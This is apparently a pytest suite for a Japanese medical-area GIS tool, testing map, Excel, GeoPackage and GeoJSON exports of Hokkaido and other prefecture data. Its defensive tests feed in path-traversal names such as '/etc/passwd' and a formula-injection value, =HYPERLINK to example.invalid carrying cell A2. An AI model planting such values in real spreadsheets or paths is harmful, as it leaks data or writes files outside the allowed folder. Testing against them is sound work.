"""Meeting exports on real data: print map (PNG/PDF), Excel summary, GeoPackage, GeoJSON, safe paths."""

from __future__ import annotations

import itertools
import json
import os
import shutil
import subprocess
from pathlib import Path

import geopandas as gpd
import numpy as np
import openpyxl
import pandas as pd
import pyogrio
import pytest
import shapely

from geo_app import InputError, PlanError, load_municipalities, load_plan
from geo_app.core.dissolve import dissolve
from geo_app.io.plans import plan_from_frame
from geo_app.io.provenance import CENSUS_2020, EMBEDDED_BOUNDARIES, credits
from geo_app.views.layers import write_geojson, write_gpkg
from geo_app.views.paths import safe_output_path
from geo_app.views.printmap import font_file, missing_glyphs, write_print_map
from geo_app.views.xlsx import write_summary_xlsx

HOKKAIDO_TOTAL = 5_224_614


@pytest.fixture(scope="module")
def hokkaido():
    return load_municipalities(prefectures=["北海道"]), load_plan("hokkaido-2024")


def _secondary(pref: str):
    plan = load_plan(f"secondary-2020:{pref}")
    return load_municipalities(prefectures=[pref], keep_wards_of=plan.ward_cities), plan


def _assert_no_overlap(boxes: list[dict]) -> None:
    for a, b in itertools.combinations(boxes, 2):
        (ax0, ay0, ax1, ay1), (bx0, by0, bx1, by1) = a["bbox"], b["bbox"]
        overlap = ax0 < bx1 and bx0 < ax1 and ay0 < by1 and by0 < ay1
        assert not overlap, f"labels overlap: {a['area']} {a['bbox']} / {b['area']} {b['bbox']}"


# ---- safe_output_path ------------------------------------------------------------------------
def test_safe_output_path_rejects_escapes(tmp_path):
    out = tmp_path / "exports"
    for bad in ["../x", "a/../../x", "..", "/etc/passwd", "C:\\x.xlsx", "..\\x.xlsx", "", "~/x"]:
        with pytest.raises(InputError) as err:
            safe_output_path(out, bad)
        assert any(w in str(err.value) for w in ("ファイル名", "フォルダ")), str(err.value)
    assert not out.exists()  # rejected before touching the disk
    assert safe_output_path(out, "在宅医療圏.xlsx") == (out / "在宅医療圏.xlsx").resolve()
    assert out.is_dir()  # the chosen folder is created for a good name


def test_safe_output_path_rejects_symlink_out_and_accepts_subfolders(tmp_path):
    out = tmp_path / "exports"
    outside = tmp_path / "outside"
    outside.mkdir()
    out.mkdir()
    (out / "link").symlink_to(outside, target_is_directory=True)
    (out / "evil.png").symlink_to(outside / "evil.png")
    with pytest.raises(InputError, match="外"):
        safe_output_path(out, "link/x.png")
    with pytest.raises(InputError, match="外"):
        safe_output_path(out, "evil.png")
    p = safe_output_path(out, "maps/在宅医療圏.png")
    assert p == (out / "maps" / "在宅医療圏.png").resolve() and p.parent.is_dir()


# ---- print map -------------------------------------------------------------------------------
def test_font_is_packaged_ipaex_and_covers_all_embedded_names():
    import matplotlib_fontja

    path = Path(font_file())
    assert path.name == "ipaexg.ttf"
    assert path.resolve().is_relative_to(Path(matplotlib_fontja.__file__).resolve().parent)
    from geo_app.io import datasets

    names = pd.read_parquet(datasets.boundaries_path(), columns=["N03_001", "N03_002", "N03_003", "N03_004"])
    plans = pd.read_csv(datasets.plans_dir() / "secondary-2020.csv", dtype=str).fillna("")
    hok = pd.read_csv(datasets.plans_dir() / "hokkaido-2024.csv", dtype=str).fillna("")
    texts = [
        *names.stack().dropna().astype(str),
        *plans.stack(),
        *hok.stack(),
        *credits(hok, load_plan("hokkaido-2024")).all(),
    ]
    assert missing_glyphs(texts) == []
    assert missing_glyphs(["𠮷"]) == ["𠮷"]  # the check can fail: a character outside IPAexGothic


def test_print_map_hokkaido_png_pdf(hokkaido, tmp_path):
    munis, plan = hokkaido
    png, pdf = tmp_path / "hokkaido.png", tmp_path / "hokkaido.pdf"
    r = write_print_map(munis, plan, png, pdf, level="homecare", paper="A4")

    from PIL import Image

    with Image.open(png) as im:
        w, h = im.size
        dpi = im.info.get("dpi", (0, 0))[0]
        rgb = np.asarray(im.convert("RGB").resize((400, 283))).reshape(-1, 3)
        colours = len(np.unique(rgb, axis=0))
    assert abs(w / h - 297 / 210) < 0.002  # A4 landscape
    assert (w, h) == r["size_px"] and 2300 <= w <= 2400  # ~200 dpi
    assert round(dpi) == 200
    assert colours > 50  # a drawn map, not a blank page

    # Every one of the 33 areas is named on the map or in the numbered key; none lost.
    areas = set(dissolve(munis, plan, "homecare")["area"])
    assert len(areas) == 33
    assert set(r["labels_placed"]) | set(r["labels_in_key"]) == areas
    assert r["labels_unplaced"] == []
    assert "札幌市" in r["labels_placed"] and "旭川市" in r["labels_placed"]
    assert len(r["label_boxes"]) == 33
    _assert_no_overlap(r["label_boxes"])
    for b in r["label_boxes"]:  # inside the page
        x0, y0, x1, y1 = b["bbox"]
        assert 0 <= x0 < x1 <= w and 0 <= y0 < y1 <= h

    assert sum(c["count"] for c in r["classes"]) == 33
    assert r["classes"][-1] == {"low": 1973395.0, "high": 1973395.0, "count": 1}  # 札幌市 alone on top
    assert r["inset_used"] is False and r["omitted"] == []
    assert r["missing_glyphs"] == [] and r["fallback_glyphs"] == []
    assert r["scale_km"] in (50, 100, 200)
    assert EMBEDDED_BOUNDARIES.credit in r["credits"] and CENSUS_2020.credit in r["credits"]
    assert "北海道医療計画" in plan.source and plan.source in r["credits"]  # the plan's own credit, from the plan

    # PDF: vector, one A4 landscape page, IPAexGothic embedded as TrueType (fonttype 42).
    data = pdf.read_bytes()
    assert data.startswith(b"%PDF") and b"/FontFile2" in data and b"IPAexGothic" in data
    if shutil.which("pdffonts"):
        fonts = subprocess.run(["pdffonts", str(pdf)], capture_output=True, text=True, check=True).stdout
        line = next(ln for ln in fonts.splitlines() if "IPAexGothic" in ln)
        assert "TrueType" in line and " yes " in line
    if shutil.which("pdftoppm") is None:
        pytest.skip("pdftoppm (poppler-utils) is not installed; PDF rasterisation not checked")
    subprocess.run(["pdftoppm", "-r", "30", "-png", "-singlefile", str(pdf), str(tmp_path / "page")], check=True)
    with Image.open(tmp_path / "page.png") as page:
        pw, ph = page.size
    assert abs(pw / ph - 297 / 210) < 0.02


def test_print_map_tokyo_islands_go_to_insets(tmp_path):
    munis, plan = _secondary("東京都")
    r = write_print_map(munis, plan, tmp_path / "tokyo.png", level="secondary", paper="A4")
    assert r["inset_used"] is True
    inset_munis = {m for i in r["insets"] for m in i["municipalities"]}
    assert {"大島町", "八丈町", "青ヶ島村", "小笠原村"} <= inset_munis
    lon0, lat0, lon1, lat1 = r["main_bounds_lonlat"]
    assert 35.3 < lat0 and lat1 < 36.0 and lon1 < 140.1  # main map = the mainland only
    assert all(i["bounds_lonlat"][1] < 35.0 for i in r["insets"])
    assert all(o["municipalities"] == ["小笠原村"] for o in r["omitted"])  # 硫黄島・南鳥島 etc. as a note
    assert set(r["labels_placed"]) | set(r["labels_in_key"]) == set(plan.areas("secondary"))
    _assert_no_overlap(r["label_boxes"])


def test_print_map_kagoshima_amami_goes_to_inset(tmp_path):
    munis, plan = _secondary("鹿児島県")
    r = write_print_map(
        munis, plan, tmp_path / "kagoshima.png", tmp_path / "kagoshima.pdf", level="secondary", paper="A3"
    )
    assert r["inset_used"] is True
    inset_munis = {m for i in r["insets"] for m in i["municipalities"]}
    assert {"奄美市", "徳之島町", "与論町"} <= inset_munis
    assert "西之表市" not in inset_munis and "屋久島町" not in inset_munis  # 種子島・屋久島 stay on the main map
    lon0, lat0, lon1, lat1 = r["main_bounds_lonlat"]
    assert lat0 > 29.9 and lat0 < 30.5  # reaches 屋久島 (30.2°N) but not 奄美 (28.x°N)
    assert "奄美" in r["labels_placed"] + r["labels_in_key"]
    _assert_no_overlap(r["label_boxes"])
    assert r["size_px"][0] > 3000  # A3 at 200 dpi


def test_print_map_rejects_bad_arguments(hokkaido, tmp_path):
    munis, plan = hokkaido
    with pytest.raises(PlanError, match="単位"):
        write_print_map(munis, plan, tmp_path / "x.png", level="county")
    with pytest.raises(InputError, match="A4 か A3"):
        write_print_map(munis, plan, tmp_path / "x.png", paper="B5")
    with pytest.raises(InputError, match="指標"):
        write_print_map(munis, plan, tmp_path / "x.png", metric="income")
    assert not (tmp_path / "x.png").exists()


# ---- Excel -----------------------------------------------------------------------------------
def test_summary_xlsx(hokkaido, tmp_path):
    munis, plan = hokkaido
    findings = pd.DataFrame(
        [
            {
                "rule": "min_population",
                "severity": "warning",
                "title": "人口が少ない",
                "level": "homecare",
                "area": "南十勝",
                "codes": ["01641", "01642"],
                "names": ["大樹町", "広尾町"],
                "message": "人口が2万人未満です。",
            }
        ]
    )
    path = write_summary_xlsx(munis, plan, tmp_path / "summary.xlsx", findings=findings, sources=["テスト用の出典"])
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == [
        *("在宅医療圏", "二次医療圏", "三次医療圏", "将来推計", "将来推計（二次医療圏）"),
        *("供給", "供給（二次医療圏）", "市町村", "所見", "人口ピラミッド", "出典"),
    ]

    for sheet, n in (("在宅医療圏", 33), ("二次医療圏", 21), ("三次医療圏", 6)):
        ws = wb[sheet]
        assert ws.max_row == 1 + n + 1, sheet  # header + areas + total
        header = [c.value for c in ws[1]]
        assert header[0] == f"{sheet}名" and "人口" in header and "65歳以上" in header and "高齢化率" in header
        pop_col = header.index("人口") + 1
        rate_col = header.index("高齢化率") + 1
        total = ws.cell(row=ws.max_row, column=1)
        assert total.value == "合計"
        assert ws.cell(row=ws.max_row, column=pop_col).value == HOKKAIDO_TOTAL
        assert sum(ws.cell(row=r, column=pop_col).value for r in range(2, ws.max_row)) == HOKKAIDO_TOTAL
        rate = ws.cell(row=2, column=rate_col)
        assert isinstance(rate.value, float) and 0 < rate.value < 1 and rate.number_format == "0.0%"
        assert ws.freeze_panes == "B2"
        assert ws.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(len(header))}{n + 1}"

    ws = wb["在宅医療圏"]
    rows = {r[0]: r for r in ws.iter_rows(min_row=2, values_only=True)}
    header = [c.value for c in ws[1]]
    assert rows["札幌市"][header.index("人口")] == 1_973_395
    assert rows["上川"][header.index("人口")] == 51_990 and rows["上川"][header.index("市町村数")] == 9
    assert rows["札幌（未確定）"][header.index("状態")] == "未確定"

    ws = wb["市町村"]
    header = [c.value for c in ws[1]]
    assert header[:5] == ["市町村コード", "市町村名", "在宅医療圏", "二次医療圏", "三次医療圏"]
    assert ws.max_row == 1 + 179
    sapporo = ws["A2"]
    assert sapporo.value == "01100" and sapporo.data_type == "s" and sapporo.number_format == "@"
    assert ws.cell(row=2, column=header.index("人口") + 1).value == 1_973_395
    asahikawa = next(r for r in ws.iter_rows(min_row=2, values_only=True) if r[0] == "01204")
    assert asahikawa[1] == "旭川市" and asahikawa[header.index("人口")] == 329_306

    ws = wb["所見"]
    # the rule by its title (項目 said the same), the level in Japanese: see test_xlsx_print
    assert [c.value for c in ws[1]] == ["ルール", "重大度", "単位", "圏域", "市町村コード", "市町村名", "説明"]
    assert ws["E2"].value == "01641、01642" and ws["E2"].data_type == "s" and ws["E2"].number_format == "@"
    assert ws["A2"].value == "人口が少ない" and ws["B2"].value == "警告" and ws["C2"].value == "在宅医療圏"
    assert ws["G2"].value == "人口が2万人未満です。"

    texts = [r[1] for r in wb["出典"].iter_rows(min_row=2, values_only=True)]
    used = credits(munis, plan)
    assert used.vintage in texts and all(c in texts for c in used.lines) and "テスト用の出典" in texts
    assert "令和2年国勢調査" in used.vintage and "北海道医療計画" in " ".join(used.lines)

    # pandas sees numbers as numbers and codes as text
    df = pd.read_excel(path, sheet_name="市町村", dtype={"市町村コード": str})
    assert df["人口"].sum() == HOKKAIDO_TOTAL and df["市町村コード"].iloc[0] == "01100"


def test_summary_xlsx_without_findings_has_empty_sheet(hokkaido, tmp_path):
    munis, plan = hokkaido
    path = write_summary_xlsx(munis, plan, tmp_path / "s.xlsx")
    ws = openpyxl.load_workbook(path)["所見"]
    assert ws.max_row == 1 and ws["A1"].value == "ルール" and ws["G1"].value == "説明"


def test_findings_sheet_is_one_shape_whatever_the_writer_is_handed(hokkaido, tmp_path):
    """`geo-app build` hands the findings, the app a `findings_frame` (English or Japanese):
    the 所見 sheet is the same table, cell for cell (it used to be 重大度/内容/説明 from build and
    重要度/項目/内容 from the app, with 内容 naming a different column in each)."""
    from geo_app.core.rules import FINDING_HEADERS, findings_frame, validate

    munis, plan = hokkaido
    findings = validate(munis, plan)
    assert findings  # the embedded plan has 未確定 areas and multipart warnings
    sheets = []
    for i, given in enumerate((findings, findings_frame(findings), findings_frame(findings, japanese=True))):
        path = write_summary_xlsx(munis, plan, tmp_path / f"s{i}.xlsx", findings=given)
        ws = openpyxl.load_workbook(path)["所見"]
        sheets.append([[(c.value, c.number_format) for c in row] for row in ws.iter_rows()])
    assert sheets[0] == sheets[1] == sheets[2]
    assert [v for v, _ in sheets[0][0]] == [h for k, h in FINDING_HEADERS.items() if k != "title"]
    assert len(sheets[0]) == 1 + len(findings)
    assert {v for v, _ in (row[1] for row in sheets[0][1:])} <= {"エラー", "警告", "情報"}


# ---- GIS layers ------------------------------------------------------------------------------
def test_gpkg_layers(hokkaido, tmp_path):
    munis, plan = hokkaido
    path = tmp_path / "areas.gpkg"
    gpd.GeoDataFrame({"x": [1]}, geometry=[shapely.Point(0, 0)], crs=4326).to_file(
        path, layer="stale", engine="pyogrio"
    )
    write_gpkg(munis, plan, path)
    layers = dict(pyogrio.list_layers(path))
    # old layer gone; the built-in plan names two hubs (without a location: listed, no geometry)
    assert set(layers) == {"municipalities", "homecare", "secondary", "tertiary", "hubs"}
    assert layers["hubs"] == "Point"
    expected = {"municipalities": 179, "homecare": 33, "secondary": 21, "tertiary": 6}
    for name, n in expected.items():
        gdf = gpd.read_file(path, layer=name, engine="pyogrio")
        assert len(gdf) == n, name
        assert gdf.crs.to_epsg() == 6668
        assert int(gdf["population"].sum()) == HOKKAIDO_TOTAL
        assert all(c.isascii() for c in gdf.columns)
        assert layers[name] == "MultiPolygon"
    m = gpd.read_file(path, layer="municipalities", engine="pyogrio")
    row = m.loc[m["code"] == "01100"].iloc[0]
    assert row["name"] == "札幌市" and row["homecare"] == "札幌市" and row["tertiary"] == "道央"
    h = gpd.read_file(path, layer="homecare", engine="pyogrio").set_index("area")
    assert h.loc["上川", "population"] == 51_990 and h.loc["札幌（未確定）", "status"] == "未確定"
    write_gpkg(munis, plan, path)  # overwrite in place
    assert len(pyogrio.list_layers(path)) == 5
    assert not [p for p in os.listdir(tmp_path) if p.startswith(".tmp_")]


def test_geojson_rfc7946(hokkaido, tmp_path):
    munis, plan = hokkaido
    areas = dissolve(munis, plan, "secondary")
    path = write_geojson(areas, tmp_path / "secondary.geojson")
    raw = path.read_text(encoding="utf-8")
    assert "札幌" in raw and "\\u" not in raw  # UTF-8, not escaped
    doc = json.loads(raw)
    assert doc["type"] == "FeatureCollection" and "crs" not in doc and len(doc["features"]) == 21
    lon0, lat0, lon1, lat1 = doc["bbox"]
    assert 139 < lon0 < lon1 < 147 and 41 < lat0 < lat1 < 46  # lon/lat order, WGS84
    assert sum(f["properties"]["population"] for f in doc["features"]) == HOKKAIDO_TOTAL
    back = gpd.read_file(path)
    assert back.crs.to_epsg() == 4326
    polys = shapely.get_parts(back.geometry.values)
    assert shapely.is_ccw(shapely.get_exterior_ring(polys)).all()  # RFC 7946 §3.1.6 right-hand rule
    from geo_app.core.geometry import EQUAL_AREA_CRS

    assert np.isclose(back.to_crs(EQUAL_AREA_CRS).area.sum(), areas.to_crs(EQUAL_AREA_CRS).area.sum(), rtol=1e-6)


def test_print_map_area_only_on_omitted_islands_is_listed_in_key(tmp_path, monkeypatch):
    import geo_app.views.extent as extent

    munis, plan = _secondary("東京都")
    table = plan.to_frame()
    table.loc[table["name"] == "小笠原村", "homecare"] = "小笠原"
    plan = plan_from_frame(table, name="東京都 テスト")
    monkeypatch.setattr(extent, "MAX_INSETS", 1)  # only 伊豆 gets an inset; 小笠原 goes to the note
    r = write_print_map(munis, plan, tmp_path / "t.png", level="homecare")
    assert [i["municipalities"][0] for i in r["insets"]] == ["大島町"]
    assert r["labels_offmap"] == ["小笠原"]
    assert "小笠原" not in r["labels_placed"] + r["labels_in_key"]
    assert len(r["label_boxes"]) == len(plan.areas("homecare")) - 1
    _assert_no_overlap(r["label_boxes"])


def test_names_that_look_like_formulas_stay_text_and_round_trip(tmp_path, hokkaido):
    """An area typed as `=HYPERLINK(...)` must not become a live formula in Excel, and must come back intact."""
    import openpyxl

    munis, hokkaido_plan = hokkaido
    from geo_app import load_plan
    from geo_app.app.workspace import plan_csv_bytes, plan_xlsx_bytes
    from geo_app.core.plan import Plan
    from geo_app.views.xlsx import write_summary_xlsx

    formula = '=HYPERLINK("http://example.invalid/?x="&A2,"詳細")'
    t = hokkaido_plan.table.copy()
    t.loc[t["homecare"] == "上川", "homecare"] = formula
    t.loc[t["homecare"] == "宗谷", "homecare"] = "-宗谷"
    plan = Plan(name="=1+1", table=t)
    path = write_summary_xlsx(munis, plan, tmp_path / "s.xlsx")
    wb = openpyxl.load_workbook(path)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(c.value == formula for c in cells)
    assert "'=HYPERLINK" in plan_csv_bytes(plan).decode("utf-8-sig")  # Excel shows it as text
    for data, name in ((plan_xlsx_bytes(plan), "p.xlsx"), (plan_csv_bytes(plan), "p.csv")):
        back = load_plan(data, name=name)
        assert back.table["homecare"].equals(plan.table["homecare"]), name


def test_dollar_signs_in_names_are_text_not_tex(tmp_path, hokkaido):
    munis, plan = hokkaido
    from geo_app.core.plan import Plan

    t = plan.table.copy()
    t.loc[t["homecare"] == "上川", "homecare"] = r"東部$\frac$"
    r = write_print_map(munis, Plan(name="費用$5と$10", table=t), tmp_path / "m.png")
    assert r"東部$\frac$" in r["labels_placed"] + r["labels_in_key"]
    assert not r["missing_glyphs"]


# ---- future figures (issue 12) in every export --------------------------------------------------
HOKKAIDO_2040 = 4_319_217  # IPSS 2023 edition, 北海道 2040 (../shared/data/projections/SOURCES.md)
KAMIKAWA_2040 = 39_290  # 上川's 9 members summed from the IPSS tables (tests/core/test_future.py)


def _sheet(ws) -> tuple[list[str], dict[str, tuple], list[tuple]]:
    """Header, data rows by area name (合計 included) and the rows below the table."""
    rows = list(ws.iter_rows(values_only=True))
    end = next(i for i, r in enumerate(rows) if r[0] == "合計")
    return list(rows[0]), {r[0]: r for r in rows[1 : end + 1]}, rows[end + 1 :]


def test_future_sheets_carry_every_future_figure_with_registry_headers_and_formats(hokkaido, tmp_path):
    from geo_app.core.metrics import FUTURE_COLUMNS, METRICS, header
    from geo_app.io.projections import IPSS_2018, IPSS_2023

    munis, plan = hokkaido
    path = write_summary_xlsx(munis, plan, tmp_path / "s.xlsx")
    wb = openpyxl.load_workbook(path)
    areas = dissolve(munis, plan, "homecare").set_index("area")
    ws = wb["将来推計"]
    head, rows, below = _sheet(ws)
    assert head[:2] == ["在宅医療圏名", "二次医療圏"]
    keys = {header(k): k for k in FUTURE_COLUMNS}
    assert len(head) == 2 + len(FUTURE_COLUMNS) == 43 and set(head[2:]) == set(keys)  # every one, once
    # a figure year by year: 人口 2020 … 2050 side by side, then the next figure
    assert head[2:9] == [header(f"population_{y}") for y in (2020, 2025, 2030, 2035, 2040, 2045, 2050)]
    assert "医療需要指数（2040年、2020年=100）" in head and "75歳以上（2040年、2018年推計）" in head
    assert len(rows) == 34 and set(rows) - {"合計"} == set(areas.index)
    for j, h in enumerate(head[2:], start=3):
        m = METRICS[keys[h]]
        cell = ws.cell(row=2, column=j)
        assert cell.number_format == m.excel_format, h  # the registry's: 0.0% rates, #,##0.0 indices
        if m.kind == "count":
            assert isinstance(cell.value, int), h
        for area, row in rows.items():
            if area == "合計":
                continue
            want = areas.loc[area, keys[h]]
            assert row[j - 1] == pytest.approx(float(want), rel=1e-12), (area, h)
    assert METRICS["demand_care_index_2040"].excel_format == "#,##0.0"
    col = {h: i for i, h in enumerate(head)}
    assert rows["上川"][col["人口（2040年推計）"]] == KAMIKAWA_2040
    total = rows["合計"]
    assert total[col["人口（2040年推計）"]] == HOKKAIDO_2040
    # the 合計's ratios are those of its sums (tally.total), not averages of the areas' ratios
    rate = total[col["65歳以上（2040年推計）"]] / total[col["人口（2040年推計）"]]
    assert total[col["高齢化率（2040年推計）"]] == pytest.approx(rate, rel=1e-12)
    index = total[col["医療需要指数（2040年、2020年=100）"]]
    weights = areas["demand_medical_weight_2040"].sum() / areas["demand_medical_weight_2020"].sum() * 100
    assert index == pytest.approx(float(weights), rel=1e-12)
    assert index != pytest.approx(float(areas["demand_medical_index_2040"].mean()), rel=1e-3)
    assert ws.cell(row=1 + len(rows), column=1).font.bold
    # the note under the table: both editions, by the names credited on 出典, and JMAP's weights
    note = "\n".join(str(v) for r in below for v in r if v)
    assert IPSS_2023.vintage in note and IPSS_2018.vintage in note and "JMAP" in note
    assert "0〜14歳 ×0.6、15〜39歳 ×0.4、40〜64歳 ×1.0、65〜74歳 ×2.3、75歳以上 ×3.9" in note
    assert "40〜64歳 ×1.0、65〜74歳 ×9.7、75歳以上 ×87.3" in note
    assert ws.auto_filter.ref == "A1:AQ34" and ws.freeze_panes == "B2"  # the filter stops above 合計

    head2, rows2, _ = _sheet(wb["将来推計（二次医療圏）"])
    assert head2[:2] == ["二次医療圏名", "三次医療圏"] and head2[2:] == head[2:] and len(rows2) == 22
    assert rows2["合計"][2:] == pytest.approx(total[2:], rel=1e-12)  # the same prefecture either way
    assert rows2["上川中部"][col["人口（2040年推計）"]] < rows2["上川中部"][col["人口（2020年、推計の基準）"]]

    sources = [r[1] for r in wb["出典"].iter_rows(min_row=2, values_only=True)]
    assert IPSS_2023.credit in sources and IPSS_2018.credit in sources  # from munis.attrs["sources"]
    notes = [s for s in sources if s and " = " in s]
    assert len(notes) == len(set(notes)) and any(s.startswith("高齢化率（2025〜2050年推計） = ") for s in notes)
    assert any(s.startswith("介護需要指数（2025〜2045年、2020年=100） = ") for s in notes)


def test_supply_sheets_carry_the_counts_and_ratios_with_their_sources(hokkaido, tmp_path):
    """供給: every facility figure of the registry per area, as tallied, the 合計 of the sums, and each
    count's source and date under the table (the same DataSource lines as the 出典 sheet)."""
    from geo_app.core.metrics import SUPPLY_KEYS, header
    from geo_app.io.facilities import sources

    munis, plan = hokkaido
    wb = openpyxl.load_workbook(write_summary_xlsx(munis, plan, tmp_path / "s.xlsx"))
    areas = dissolve(munis, plan, "homecare").set_index("area")
    head, rows, below = _sheet(wb["供給"])
    keys = {header(k): k for k in SUPPLY_KEYS}
    assert head[:2] == ["在宅医療圏名", "二次医療圏"] and head[2:] == [header(k) for k in SUPPLY_KEYS]
    for j, h in enumerate(head[2:], start=2):
        for area in ("札幌市", "上川", "富良野", "宗谷"):
            assert rows[area][j] == pytest.approx(float(areas.loc[area, keys[h]]), rel=1e-12), (area, h)
    col = {k: head.index(header(k)) for k in SUPPLY_KEYS}
    assert rows["札幌市"][col["home_nursing_stations"]] == 265  # the shared table's stations (SOURCES.md)
    assert rows["合計"][col["home_nursing_stations"]] == 640 and rows["合計"][col["hospitals"]] == 434
    note = "\n".join(str(v) for r in below for v in r if v)
    assert all(s.vintage in note for s in sources())
    head2, rows2, _ = _sheet(wb["供給（二次医療圏）"])
    assert head2[2:] == head[2:] and rows2["合計"][2:] == pytest.approx(rows["合計"][2:], rel=1e-12)


def test_future_figures_unknown_in_fukushima_stay_empty_in_excel_and_gis(tmp_path):
    """福島県: 浜通り's 13 members have no projection of their own, and the 2018 edition none at all."""
    plan = load_plan("secondary-2024:福島県")
    munis = load_municipalities(prefectures=["福島県"])
    path = write_summary_xlsx(munis, plan, tmp_path / "f.xlsx")
    head, rows, _ = _sheet(openpyxl.load_workbook(path)["将来推計（二次医療圏）"])
    col = {h: i for i, h in enumerate(head)}
    pop, care = col["人口（2040年推計）"], col["介護需要指数（2040年、2020年=100）"]
    assert rows["いわき"][pop] is None and rows["相双"][pop] is None
    assert rows["合計"][pop] is None  # unknown, not the other four areas' sum
    assert isinstance(rows["県北"][pop], int) and rows["県北"][pop] > 300_000
    assert all(r[care] is None for r in rows.values())
    assert all(v not in ("", "nan", "None", 0) for r in rows.values() for v in r[2:] if v is not None)

    gpkg = write_gpkg(munis, plan, tmp_path / "f.gpkg")
    layer = gpd.read_file(gpkg, layer="secondary", engine="pyogrio").set_index("area")
    assert pd.isna(layer.loc["いわき", "population_2040"]) and layer.loc["県北", "population_2040"] > 300_000
    assert layer["demand_care_index_2040"].isna().all()
    doc = json.loads(write_geojson(dissolve(munis, plan, "secondary"), tmp_path / "f.geojson").read_text("utf-8"))
    props = {f["properties"]["area"]: f["properties"] for f in doc["features"]}
    assert props["相双"]["population_2040"] is None and isinstance(props["県北"]["population_2040"], int)


def test_gis_layers_carry_future_figures_as_numbers(hokkaido, tmp_path):
    from geo_app.core.metrics import FUTURE_COLUMNS, METRICS

    munis, plan = hokkaido
    path = write_gpkg(munis, plan, tmp_path / "areas.gpkg")
    areas = dissolve(munis, plan, "homecare").set_index("area")
    for name in ("homecare", "secondary", "tertiary"):
        info = pyogrio.read_info(path, layer=name)
        types = dict(zip(info["fields"], info["dtypes"], strict=True))
        assert set(FUTURE_COLUMNS) <= set(types), name  # every year, as in the CSV
        for key in FUTURE_COLUMNS:
            assert types[key] == ("int64" if METRICS[key].kind == "count" else "float64"), (name, key)
        assert not [f for f in types if "_weight_" in f]  # the indices' inputs (×10) are no field
        assert max(len(f.encode()) for f in types) <= 63
    layer = gpd.read_file(path, layer="homecare", engine="pyogrio").set_index("area")
    assert layer.loc["上川", "population_2040"] == KAMIKAWA_2040
    assert int(layer["population_2040"].sum()) == HOKKAIDO_2040
    for key in ("aging_rate_2040", "demand_medical_index_2040", "demand_care_index_2040", "age_75_plus_2040"):
        assert layer[key].tolist() == pytest.approx(areas.loc[layer.index, key].astype(float).tolist(), rel=1e-12)
        assert layer[key].notna().all()

    doc = json.loads(write_geojson(dissolve(munis, plan, "homecare"), tmp_path / "h.geojson").read_text("utf-8"))
    props = {f["properties"]["area"]: f["properties"] for f in doc["features"]}
    kamikawa = props["上川"]
    assert kamikawa["population_2040"] == KAMIKAWA_2040 and isinstance(kamikawa["population_2040"], int)
    assert isinstance(kamikawa["demand_care_index_2040"], float) and 50 < kamikawa["demand_care_index_2040"] < 200
    assert set(FUTURE_COLUMNS) <= set(kamikawa) and not [k for k in kamikawa if "_weight_" in k]
    assert sum(p["population_2040"] for p in props.values()) == HOKKAIDO_2040
